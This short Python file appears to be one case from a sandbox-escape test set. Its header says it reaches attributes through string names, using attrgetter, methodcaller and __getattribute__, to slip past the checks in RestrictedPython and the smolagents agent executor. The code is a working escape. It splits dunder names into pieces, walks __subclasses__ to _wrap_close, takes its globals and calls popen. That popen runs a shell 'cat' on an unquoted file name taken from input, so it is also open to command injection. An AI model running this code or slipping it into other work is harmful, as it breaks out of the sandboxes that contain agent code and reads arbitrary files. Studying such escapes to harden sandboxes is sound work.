# Tries: attributes by names that stand in text: operator.attrgetter, methodcaller, getattr and object.__getattribute__.
# Origin: RestrictedPython and smolagents look at attribute nodes; these make none.

import operator

kinds = operator.methodcaller("__subcl" + "asses__")(operator.attrgetter("__class__.__base__")(()))
wrapper = next(kind for kind in kinds if operator.attrgetter("__na" + "me__")(kind) == "_wrap_close")
space = object.__getattribute__(type.__getattribute__(wrapper, "__in" + "it__"), "__glo" + "bals__")
operator.itemgetter("popen")(space)("cat '" + input["file"] + "'").read()
